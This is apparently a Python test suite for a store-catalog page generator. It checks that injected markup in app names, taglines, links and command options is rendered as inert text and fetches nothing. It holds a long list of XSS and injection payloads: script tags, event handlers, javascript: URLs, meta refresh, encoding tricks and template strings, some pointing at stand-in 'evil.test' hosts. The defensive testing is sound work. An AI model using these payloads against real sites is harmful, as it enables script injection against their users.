"""Texts of a catalog that are markup, scripts and addresses: they stay texts, and the page fetches nothing."""
from support.pictures import png
from support.shop import check
from support.texts import plain
from support.wire import comes
from . import reading
from .browser import Browser, in_tab
from .contents import stock, store_url
from .witness import Witness

PROMPT = 20  # seconds, on a busy machine
RUN = "document.title=String(window.ran=1);alert(1)"


def payloads(host):
    """Texts that would run a script, add an element or ask this host, wherever a page puts them without care."""
    return [
        f"<script>{RUN}</script>",
        f"<script src=https://{host}/s.js></script>",
        f"<img src=https://{host}/i.png onerror={RUN}>",
        f"<svg/onload={RUN}>",
        f"\"><img src=x onerror={RUN}>",
        f"\" autofocus onfocus=\"{RUN}\" onmouseover=\"{RUN}",
        f"' autofocus onfocus='{RUN}' onmouseover='{RUN}",
        f"</strong></span></a></li></ul></main></body><script>{RUN}</script>",
        f"</title></style><script>{RUN}</script>",
        f"--><script>{RUN}</script><!--",
        f"]]><script>{RUN}</script><![CDATA[",
        f"<base href=https://{host}/><link rel=stylesheet href=https://{host}/s.css><link rel=icon href=https://{host}/f.ico>",
        f"<link rel=preconnect href=https://{host}><link rel=dns-prefetch href=//{host}><link rel=prefetch href=https://{host}>",
        f"<meta http-equiv=refresh content='0;url=https://{host}/r'>",
        f"<style>@import 'https://{host}/s.css'; * {{ background: url(https://{host}/b.png) !important; }}</style>",
        f"<iframe src=https://{host}/f srcdoc='<script>{RUN}</script>'></iframe>",
        f"<form action=https://{host}/><input autofocus onfocus={RUN}><button>Free</button></form>",
        f"<object data=https://{host}/o><embed src=https://{host}/e><video src=https://{host}/v autoplay>",
        f"<a href=\"javascript:{RUN}\">Free</a>",
        f"<details open ontoggle={RUN}><summary>Free</summary></details>",
        f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#60;b&#62; &copy &notanentity;",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\u00bcscript\u00be{RUN}\u00bc/script\u00be \uff1cscript\uff1e",
        "<plaintext>", "<textarea>", "<!--", "<template>", "<noscript>", "<!DOCTYPE html><html lang=xx><title>T</title>",
        "\u202etxt.exe\u202c \u2066hidden\u2069 \u200fright",
        "\x00\x07\x1b[31m red \x7f\x85\x9b\u2028next\tline\r\nend",
        "{{7*7}} ${7*7} <%= 7*7 %> %s %n \\u003cb\\u003e",
    ]


def links(host):
    """Addresses of stores, and whether promod takes them; in place of the others there is Apple's page."""
    return {
        f"https://{host}/?a=1&copy=2&lt=3&amp;b=4#'onmouseover='{RUN.replace(' ', '')}": True,
        f"https://{host}/;base64,PHNjcmlwdD4=?<script>": False,
        f"https://{host}/\"onmouseover=\"{RUN}": False,
        f"javascript:{RUN}": False,
        f"data:text/html,<script>{RUN}</script>": False,
        f"http://{host}/": False,
        f"//{host}/": False,
    }


def _hostile(shop, host):
    """A catalog of such texts in all fields, and the same without them."""
    addresses, pictures = list(links(host)), [png() + f"<script>{RUN}</script>".encode(), png(), None]
    hostile, harmless = [], []
    for number, text in enumerate(payloads(host)):
        picture = pictures[number % len(pictures)]
        spoilt = {language: f"{language} {text}" for language in ("en", "ko", "ja")}
        harmless.append(shop.app(number, "App", picture, tagline={language: language for language in spoilt}))
        hostile.append({
            **harmless[-1], "name": f"App {text}", "tagline": spoilt, "category": f"Of {text}", text: text,
            "storeURLs": {"linux": addresses[number % len(addresses)]}})
    return hostile, harmless


def _problems(shop, tab, where):
    """Whether anything ran or opened."""
    for event in "Page.javascriptDialogOpening", "Runtime.consoleAPICalled", "Runtime.exceptionThrown", "Page.windowOpen":
        shop.expect(not tab.all(event), f"{where}: {event} {tab.all(event)[:1]}")
    entries = [event["entry"]["text"] for event in tab.all("Log.entryAdded")]
    shop.expect(not entries, f"{where}: the browser complains {entries[:3]}")
    shop.expect(tab.evaluate("window.ran") is None, f"{where}: a script ran")


def texts(shop, tab):
    """The page of a hostile catalog has the elements of a harmless one, also in a browser that ignores its protection."""
    host = "texts.evil.test"
    hostile, harmless = _hostile(shop, host)
    shop.publish(harmless)
    shop.start()
    expected = {}
    for language in "en", "ko", "ja":
        tab.open(shop.page("--language", language))
        expected[language] = reading.outline(tab), reading.head(tab)
    shop.publish(hostile)
    shop.daemon.refresh()
    for language, (outline, head) in expected.items():
        path = shop.page("--language", language)
        for is_protected in True, False:
            where = f"in {language}{'' if is_protected else ', without its protection'}"
            tab.call("Page.setBypassCSP", enabled=not is_protected)
            tab.open(path)
            _problems(shop, tab, where)
            found = reading.outline(tab)
            extra = sorted(set(found) - set(outline))
            shop.expect(found == outline, f"{where}: there are {len(found)} elements, not {len(outline)}, with {extra[:3]}")
            shop.expect_equal(reading.head(tab), head, f"{where}: the page has")
            _expect_texts(shop, reading.rows(tab), hostile, language, where)
    return f"{len(payloads(host))} texts on {len(expected)} pages"


def _expect_texts(shop, rows, apps, language, where):
    shop.expect(len(rows) == len(apps), f"{where}: there are {len(rows)} rows, not {len(apps)}")
    good = [link for link, is_good in links("texts.evil.test").items() if is_good]
    for row, app in zip(rows, apps):
        expected = [plain(text) for text in (app["name"], app["category"], app["tagline"][language])]
        shop.expect_equal(row.texts[-3:], expected, f"{where}: a row is")
        link = app["storeURLs"]["linux"] if app["storeURLs"]["linux"] in good else store_url({**app, "storeURLs": {}})
        shop.expect_equal(row.links, [link], f"{where}: it leads to")


def options(shop, tab):
    """Markup in the command's own options."""
    stock(shop, tab)
    shop.start()
    text = f"\"><script>{RUN}</script>"
    tab.open(shop.page("--language", text))
    _problems(shop, tab, "--language")
    shop.expect(tab.evaluate("document.documentElement.lang") == "en", "--language comes into the page")
    done = shop.run("promoctl", "page", "--host", text)
    right = done.returncode == 65 and not done.stdout
    shop.expect(right, f"--host with markup ends with {done.returncode}: {done.stdout[:200]}")


def network(shop, tab):
    """The page as a file, and from a web server with every name in .test; a page that fetches shows that it would be seen."""
    witness, word = Witness.it, "network.evil.test"
    hostile, _ = _hostile(shop, word)
    shop.publish(hostile)
    shop.start()
    path = shop.page()
    asked = shop.origin.connections
    tab.open(path)
    shop.expect(tab.requests == [f"file://{path}"], f"the file asks for {tab.requests[:4]}")
    with open(path, "rb") as file:
        witness.pages["/page"] = file.read()
    address = "http://network.pages.test/page"
    tab.load(address)
    shop.expect(tab.requests == [address], f"from a server the page asks for {tab.requests[:4]}")
    # The server does not say what it is.
    shop.expect_equal(tab.evaluate("document.characterSet"), "UTF-8", "the page is read as")
    # Whatever the page asks for comes before what another page asks for later.
    markup = "<img src=https://picture.seen.test/i.png><link rel=preconnect href=https://connection.seen.test>"
    witness.pages["/other"] = f"<!DOCTYPE html>{markup}".encode()
    with Browser.it.tab() as other:
        other.load("http://network.pages.test/other")
        for kind in "picture", "connection":
            seen = comes(lambda kind=kind: witness.hits(f"{kind}.seen.test"), PROMPT)
            shop.expect(seen, f"a page with a {kind} is not noticed")
    shop.expect(not witness.hits(word), f"{witness.hits(word)} connections were made")
    shop.expect(shop.origin.connections == asked, "the icons' origin was asked")


def protection(shop, tab):
    """Markup that someone has put into the page by hand."""
    stock(shop, tab)
    shop.start()
    witness, word = Witness.it, "protection.evil.test"
    with open(shop.page(), encoding="utf-8") as file:
        page = file.read()
    # No protection of this kind keeps a page from leading elsewhere, or from naming hosts that the browser may connect to.
    markup = [text for text in payloads(word)[:20] if "http-equiv" not in text and "preconnect" not in text]
    spoilt = page.replace("<main>", "".join(markup) + "<main>", 1)
    shop.expect(spoilt != page, "the page has no such place")
    witness.pages["/spoilt"] = spoilt.encode()
    address = "http://protection.pages.test/spoilt"
    for is_protected in True, False:
        tab.call("Page.setBypassCSP", enabled=not is_protected)
        tab.load(address)
        ran = bool(tab.all("Page.javascriptDialogOpening")) or tab.evaluate("window.ran") is not None
        refused = {event["requestId"] for event in tab.all("Network.loadingFailed") if event.get("blockedReason") == "csp"}
        sent = [event for event in tab.all("Network.requestWillBeSent") if event["requestId"] not in refused]
        fetched = [event["request"]["url"] for event in sent if word in event["request"]["url"]]
        if is_protected:
            shop.expect(not ran, "a script in the page runs")
            shop.expect(not fetched, f"the page asks for {fetched[:4]}")
            shop.expect(not witness.hits(word), f"the page makes {witness.hits(word)} connections")
        else:
            shop.expect(ran and fetched, "even without the protection nothing runs, so this shows nothing")


CHECKS = [
    check("texts", "markup in a catalog is shown as text: it adds no element, runs nothing and changes no link", in_tab(texts)),
    check("options", "markup in --language and --host does not come into the page", in_tab(options)),
    check("network", "a browser that shows the page asks nobody for anything", in_tab(network)),
    check("protection", "even if markup came into the page, it could neither run a script nor fetch anything",
          in_tab(protection)),
]
